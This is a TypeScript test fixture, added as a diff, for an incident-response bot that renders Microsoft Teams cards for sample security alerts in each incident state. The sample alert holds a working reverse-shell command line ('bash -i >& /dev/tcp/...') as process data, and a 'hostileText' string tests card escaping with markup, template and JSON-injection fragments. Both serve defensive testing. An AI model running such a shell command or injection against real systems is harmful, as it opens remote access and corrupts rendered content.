@@ -1,0 +1,161 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what attackers write looks like templates.
+import { drawRow, drawCard as drawView, type SyncFailure } from '../../../src/channels/card.ts';
+import { clean } from '../../../src/channels/clean.ts';
+import { drawCard } from '../../../src/channels/teams/draw-card.ts';
+import { drawDialog } from '../../../src/channels/teams/draw-dialog.ts';
+import { drawLog } from '../../../src/channels/teams/draw-log.ts';
+import { drawReply } from '../../../src/channels/teams/draw-reply.ts';
+import type { Card } from '../../../src/channels/teams/templates.ts';
+import { drawThread } from '../../../src/channels/thread.ts';
+import type { Choice, DialogView, ReplyView } from '../../../src/channels/views.ts';
+import { commands } from '../../../src/commands/index.ts';
+import type { Alert, Severity } from '../../../src/incident/alert.ts';
+import { type Incident, type IncidentFact, keptDeeds } from '../../../src/incident/incident.ts';
+import { adam, defenderAlert, owner, priya, sentinelIncident } from '../../incident/alerts.ts';
+import { incidentAfter } from '../../incident/given.ts';
+
+const shell = defenderAlert({
+  severity: 'high',
+  title: 'Possible reverse shell detected on vm-pay-web-01',
+  tactics: ['Execution', 'Persistence'],
+  workspace: 'contoso-sentinel',
+  entities: [
+    { kind: 'host', name: 'vm-pay-web-01', resourceId: '' },
+    { kind: 'ip', address: '203.0.113.9', country: 'NL' },
+    { kind: 'account', name: 'svc-pay', upn: 'svc-pay@contoso.com', oid: '' },
+    { kind: 'process', name: 'bash', commandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
+    { kind: 'file', name: 'x.sh', directory: '/tmp' },
+  ],
+});
+const opened = { type: 'opened', alert: shell } satisfies IncidentFact;
+const acknowledged = { type: 'acknowledged', by: adam } as const;
+const taken = { type: 'assigned', owner: owner(adam), by: adam } as const;
+const comment = {
+  type: 'commented',
+  text: 'The shell came from the build agent.\nHost isolated, password changed.',
+  by: priya,
+} as const;
+const closed = {
+  type: 'closed',
+  closing: { classification: 'true-positive', reason: 'suspicious-activity', comment: 'Contained.' },
+  by: adam,
+} as const;
+const reasons = ['Crown jewel: vm-pay-web-01', 'Production: vm-pay-web-01'];
+const failure: SyncFailure = { source: 'sentinel', reason: 'auth' };
+
+/** What attackers would like a card to become. */
+export const hostileText =
+  '<at>SOC</at> [press](https://evil.example) **b** {{DATE(2026-01-01T00:00:00Z)}} ${1+1} "}],"actions":[';
+const longText = 'Überlänge 🛡️ '.repeat(400);
+
+const spoken = (text: string): Alert =>
+  sentinelIncident({
+    title: text,
+    description: text,
+    product: text,
+    label: text,
+    workspace: text,
+    tactics: [text, text],
+    entities: [
+      { kind: 'other', type: text, name: text },
+      { kind: 'url', url: text },
+    ],
+    portalUrl: 'https://portal.azure.com/',
+  });
+
+function storyOf(text: string): Incident {
+  const by = { ...adam, name: text };
+  return incidentAfter(
+    { type: 'opened', alert: spoken(text) },
+    { type: 'assigned', owner: owner(by), by },
+    ...Array.from({ length: keptDeeds + 5 }, () => ({ type: 'commented', text, by }) as const),
+  );
+}
+
+/** INC-1042 in each state that an incident can be in. */
+export const incidents: Record<string, Incident> = {
+  new: incidentAfter(opened),
+  ...Object.fromEntries(
+    (['medium', 'low', 'informational'] satisfies Severity[]).map((severity) => [
+      `new, ${severity}`,
+      incidentAfter({ type: 'opened', alert: { ...shell, severity } }),
+    ]),
+  ),
+  'active, owned': incidentAfter(opened, acknowledged, taken, comment),
+  'active, of nobody': incidentAfter(opened, acknowledged),
+  closed: incidentAfter(opened, acknowledged, taken, comment, closed),
+  reopened: incidentAfter(opened, acknowledged, taken, closed, { type: 'reopened', by: priya }),
+  merged: incidentAfter(opened, { type: 'merged', into: 1001 }),
+  bare: incidentAfter({ type: 'opened', alert: { ...shell, entities: [], tactics: [], portalUrl: '' } }),
+  'of hostile text': storyOf(hostileText),
+  'of endless text': storyOf(longText),
+  'of empty text': storyOf(''),
+};
+
+export const people: Choice[] = [
+  { value: adam.id, label: adam.name, description: adam.upn },
+  { value: priya.id, label: priya.name, description: priya.upn },
+];
+
+function cardsOf(incident: Incident): Record<string, Card> {
+  const view = drawView(incident, { reasons, failures: [] });
+  const failed = drawView(incident, { reasons: [], failures: [failure] });
+  const log = drawThread(incident);
+  return {
+    card: drawCard(view),
+    'card for the presser': drawCard(view, 'Adam Keller was first.'),
+    'card not synced': drawCard(failed),
+    ...(log && { log: drawLog(log) }),
+    ...Object.fromEntries(
+      dialogsOf(incident).flatMap((dialog) => [
+        [`dialog ${dialog.verb}`, drawDialog(dialog, people)],
+        [`dialog ${dialog.verb} to mend`, drawDialog(dialog, people, typedInto(dialog))],
+      ]),
+    ),
+  };
+}
+
+/** Every dialog that a command has. */
+function dialogsOf(incident: Incident): DialogView[] {
+  const about = `INC-1042 ${clean(incident.title, 120)}`;
+  return commands
+    .filter((command) => command.kind === 'change')
+    .flatMap(({ verb, dialog }) =>
+      dialog
+        ? [{ verb, incident: incident.id, version: incident.version, about, ...dialog.draw(incident) }]
+        : [],
+    );
+}
+
+function typedInto({ fields }: DialogView) {
+  return {
+    values: Object.fromEntries(fields.map(({ id }) => [id, hostileText])),
+    faults: Object.fromEntries(fields.map(({ id }) => [id, `Mend this: ${hostileText}`])),
+  };
+}
+
+const rows = Object.values(incidents).map(drawRow).slice(0, 10);
+const replies: Record<string, ReplyView> = {
+  list: { kind: 'incidents', title: 'Open incidents, most important first', rows: rows.slice(0, 4), more: 2 },
+  'longest list': { kind: 'incidents', title: longText.slice(0, 200), rows, more: 90 },
+  'empty list': { kind: 'incidents', title: 'Nothing is open.', rows: [], more: 0 },
+  help: {
+    kind: 'lines',
+    title: 'What you can say to me',
+    rows: commands.map(({ usage, summary }) => ({ lead: usage, text: summary })),
+  },
+};
+
+/** Every card that the product can draw for Teams, by what it is. */
+export const everyCard: [string, Card][] = [
+  ...Object.entries(incidents).flatMap(([state, incident]) =>
+    Object.entries(cardsOf(incident)).map(([name, card]): [string, Card] => [`${state}: ${name}`, card]),
+  ),
+  ...Object.entries(replies).map(([name, view]): [string, Card] => [name, cardIn(view)]),
+];
+
+function cardIn(view: ReplyView): Card {
+  const message = drawReply(view);
+  if (!('attachments' in message)) throw new Error('The reply is text.');
+  return message.attachments[0]?.content ?? {};
+}
